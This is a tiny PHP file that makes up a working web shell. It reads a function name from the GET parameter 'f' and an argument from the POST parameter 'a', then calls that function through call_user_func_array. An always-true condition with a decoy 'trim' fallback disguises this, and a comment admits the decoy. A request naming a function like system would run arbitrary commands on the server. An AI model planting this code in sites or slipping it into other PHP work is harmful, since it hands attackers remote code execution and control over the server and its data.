<?php
// the callback is the request's, behind a condition that always picks it
$f = $_GET['f'];
$a = $_POST['a'];
call_user_func_array($f == $f ? $f : 'trim', array($a));
